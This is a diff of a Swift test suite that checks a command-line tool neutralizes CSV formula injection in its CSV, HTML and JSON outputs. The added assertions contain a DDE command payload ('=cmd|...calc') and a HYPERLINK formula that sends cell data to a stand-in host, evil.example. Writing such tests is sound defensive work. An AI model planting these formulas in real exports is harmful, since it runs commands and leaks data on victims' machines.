@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import TICTestSupport
 import TICIngest
 
 /// Every command's CSV output, with user text made to look like spreadsheet formulas: no cell of
@@ -39,8 +40,7 @@ struct CSVInjectionCommandTests {
     static func read(_ text: String) throws -> (rows: [[String]], unsafe: [String]) { try read(Data(text.utf8)) }
 
     static func folder() throws -> URL {
-        let url = FileManager.default.temporaryDirectory.appendingPathComponent("ticeval-injection-\(UUID().uuidString)")
-        try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
+        let url = try makeTemporaryDirectory(prefix: "ticeval-injection")
         return url
     }
 
@@ -94,7 +94,7 @@ struct CSVInjectionCommandTests {
     func screen() throws {
         let dir = try Self.folder()
         defer { try? FileManager.default.removeItem(at: dir) }
-        var text = try String(contentsOf: CLIRunner.repositoryRoot.appendingPathComponent("Datasets/applications.csv"), encoding: .utf8)
+        var text = try String(contentsOf: Fixtures.repository("Datasets/applications.csv"), encoding: .utf8)
         text = text.replacingOccurrences(of: "湖南（示例）精密装备股份有限公司", with: Self.q(Self.hostile[1]))
             .replacingOccurrences(of: "湖南（示例）新材料科技有限公司", with: Self.q(Self.hostile[0]))
         try Self.write(text, "a.csv", in: dir)
@@ -107,7 +107,7 @@ struct CSVInjectionCommandTests {
     func subsidy() throws {
         let dir = try Self.folder()
         defer { try? FileManager.default.removeItem(at: dir) }
-        var text = try String(contentsOf: CLIRunner.repositoryRoot.appendingPathComponent("Datasets/projects.csv"), encoding: .utf8)
+        var text = try String(contentsOf: Fixtures.repository("Datasets/projects.csv"), encoding: .utf8)
         text = text.replacingOccurrences(of: "天津（示例）综合技术创新中心甲", with: Self.q(Self.hostile[2]))
             .replacingOccurrences(of: "检测实验室建设", with: Self.q(Self.hostile[3]))
         try Self.write(text, "p.csv", in: dir)
@@ -140,6 +140,18 @@ struct CSVInjectionCommandTests {
         for file in ["ranking.csv", "adjustments.csv"] {
             Self.check(try Self.read(Data(contentsOf: dir.appendingPathComponent("out/\(file)"))), column: 1, expected: names, file)
         }
+        // The neutralized cell is the name with an apostrophe in front (OWASP's advice), quoted as CSV needs.
+        let ranking = String(decoding: try Data(contentsOf: dir.appendingPathComponent("out/ranking.csv")), as: UTF8.self)
+        #expect(ranking.contains("C01,'=cmd|' /C calc'!A0,"))
+        #expect(ranking.contains(#"C02,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")","#))
+        #expect(!ranking.contains(",=cmd") && !ranking.contains(",=HYPERLINK"))
+        // The HTML report escapes the names; the JSON keeps them exactly as written.
+        let html = String(decoding: try Data(contentsOf: dir.appendingPathComponent("out/report.html")), as: UTF8.self)
+        #expect(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;点击&quot;)"))
+        #expect(!html.contains(#"=HYPERLINK("http"#))
+        let summary = try Data(contentsOf: dir.appendingPathComponent("out/summary.json"))
+        let centers = try #require((JSONSerialization.jsonObject(with: summary) as? [String: Any])?["centers"] as? [[String: Any]])
+        #expect(Set(centers.compactMap { $0["name"] as? String }).isSuperset(of: names))
     }
 
     @Test("compare: scheme labels in compare.csv, center names in movers.csv")
